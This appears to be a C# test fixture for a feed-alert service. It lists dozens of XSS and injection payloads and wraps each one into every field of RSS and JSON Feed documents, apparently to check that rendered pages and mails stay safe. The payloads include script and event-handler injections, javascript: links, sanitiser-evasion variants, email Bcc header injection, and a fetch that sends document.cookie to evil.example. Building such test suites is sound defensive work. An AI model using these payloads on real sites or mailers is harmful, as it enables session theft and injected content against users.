using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Xml.Linq;

namespace Alerts.Functions.Tests.Samples;

/// <summary>What an item may hold to get an element, an attribute or an address of its own into a page or a mail.</summary>
internal static class HostileInputs
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>fetch('https://evil.example/'+document.cookie)</script>CECOT",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>CECOT",
        "<scr<script>ipt>alert(1)</scr</script>ipt>CECOT",
        "<<script>alert(1);//<</script>CECOT",
        "<script/>alert(1)</script>CECOT",
        "<script>CECOT",
        "</script><script>alert(1)</script>CECOT",
        "<img src=x onerror=alert(1)>CECOT",
        "<img src='https://evil.example/pixel.gif' width=1 height=1>CECOT",
        "<img/src=`x`onerror=alert(1)>CECOT",
        "<svg onload=alert(1)>CECOT</svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>CECOT</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>CECOT",
        "<iframe src='https://evil.example/'></iframe>CECOT",
        "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>CECOT",
        "<object data='data:text/html,<script>alert(1)</script>'></object>CECOT",
        "<embed src='https://evil.example/x.swf'>CECOT",
        "<a href='javascript:alert(1)'>CECOT</a> and more of it",
        "<a href='&#106;avascript:alert(1)'>CECOT</a> and more of it",
        "<a href='java\nscript:alert(1)'>CECOT</a> and more of it",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>CECOT</a> and more of it",
        "<a href='https://evil.example/phish' target=_blank>CECOT</a> and more of it",
        "<a href='//evil.example/phish'>CECOT</a> and more of it",
        "<form action='https://evil.example/'><input name=q value='CECOT'><button>CECOT</button></form>CECOT",
        "<base href='https://evil.example/'>CECOT",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>CECOT",
        "<link rel=stylesheet href='https://evil.example/x.css'>CECOT",
        "<style>@import 'https://evil.example/x.css'; * { display: none }</style>CECOT",
        "<div style='background:url(https://evil.example/x.png);position:fixed;inset:0'>CECOT</div>",
        "<p style=\"width: expression(alert(1))\" onmouseover=alert(1)>CECOT</p>",
        "<body onload=alert(1) background='https://evil.example/x.png'>CECOT",
        "<table background='javascript:alert(1)'><tr><td>CECOT</td></tr></table>",
        "<video poster='https://evil.example/x.png'><source src=x onerror=alert(1)></video>CECOT",
        "<details open ontoggle=alert(1)>CECOT</details>",
        "<marquee onstart=alert(1)>CECOT</marquee>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>CECOT",
        "<textarea></textarea><img src=x onerror=alert(1)>CECOT",
        "<title></title><img src=x onerror=alert(1)>CECOT",
        "<!--><img src=x onerror=alert(1)>-->CECOT",
        "<!-- --!><img src=x onerror=alert(1)> -->CECOT",
        "<![CDATA[<script>alert(1)</script>]]>CECOT",
        "<?php echo '<script>'; ?>CECOT",
        "&lt;script&gt;alert(1)&lt;/script&gt; CECOT",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; CECOT",
        "&#x3c;img src=x onerror=alert(1)&#x3e; CECOT",
        "&lt;a href=&quot;javascript:alert(1)&quot;&gt;CECOT&lt;/a&gt;",
        "\" onmouseover=\"alert(1)\" CECOT",
        "' style='position:fixed' CECOT",
        "`${alert(1)}` {{constructor.constructor('alert(1)')()}} @Html.Raw(1) CECOT",
        "</td></tr></table></body></html><h1>CECOT</h1>",
        "</blockquote></article></main></section><h1>CECOT</h1>",
        "<![endif]--><!--[if mso]><script>alert(1)</script><![endif]-->CECOT",
        "CECOT <b", "CECOT <b <b <i onclick=alert(1)", "CECOT </", "CECOT <!", "CECOT <a href='https://evil.example/",
        "CECOT\u202E gro.live//:sptth \u202C",
        "\u2066CECOT\u2067 never closed",
        "\u200F\u200ECE\u200BCO\u2060T\uFEFF",
        "CE\u0007CO\u001BT \u009B31m \u007F",
        "<p>CECOT&#13;&#10;Bcc: victim@evil.example</p>",
        "<p>CECOT&#x202E;&#8238;&#x2028;&#x85;reversed</p>",
        "<p>CECOT&#0;&#xD800;&#x110000;&#xFFFF;</p>",
        "=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?= CECOT",
        "<xss:xss xmlns:xss='urn:x'><xss:script>CECOT</xss:script></xss:xss>",
        "<plaintext>CECOT</plaintext><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>CECOT",
        "<select><option><script>alert(1)</script></option></select>CECOT",
        "<template><img src=x onerror=alert(1)></template>CECOT",
        "<div\u00A0onclick=alert(1)>CECOT</div\u00A0>",
        "<p/onclick=alert(1)/>CECOT<p\fonclick=alert(1)>",
        "<a href=\"https://evil.example/\"\n\n\n>CECOT</a\n> and more",
    ];

    /// <summary>The text in every place of an item and of the feed itself.</summary>
    public static byte[] Rss(string hostile) => Encoding.UTF8.GetBytes(new XDocument(
        new XElement("rss", new XAttribute("version", "2.0"),
            new XElement("channel",
                new XElement("title", Xml(hostile)),
                new XElement("link", Xml(hostile)),
                new XElement("description", Xml(hostile)),
                new XElement("language", Xml(hostile)),
                new XElement("item",
                    new XElement("title", Xml(hostile)),
                    new XElement("link", "https://news.example/story"),
                    new XElement("guid", Xml(hostile)),
                    new XElement("author", Xml(hostile)),
                    new XElement("category", Xml(hostile)),
                    new XElement("description", Xml(hostile))),
                new XElement("item",
                    new XElement("title", "CECOT"),
                    new XElement("link", Xml(hostile)),
                    new XElement("description", $"<p>Before.</p>{Xml(hostile)}<p>After.</p>"))))).ToString(SaveOptions.DisableFormatting));

    public static byte[] Json(string hostile) => JsonSerializer.SerializeToUtf8Bytes(new
    {
        version = "https://jsonfeed.org/version/1.1",
        title = hostile,
        home_page_url = hostile,
        language = hostile,
        items = new[]
        {
            new { id = hostile, url = "https://news.example/story", title = hostile, content_html = hostile, authors = new[] { new { name = hostile } } },
        },
    });

    /// <summary>What XML 1.0 cannot carry goes as a reference of HTML.</summary>
    private static string Xml(string text) => string.Concat(text.Select(character =>
        character is '\t' or '\n' or '\r' || (character >= ' ' && character is not ('\uFFFE' or '\uFFFF'))
            ? character.ToString()
            : string.Create(CultureInfo.InvariantCulture, $"&#{(int)character};")));
}
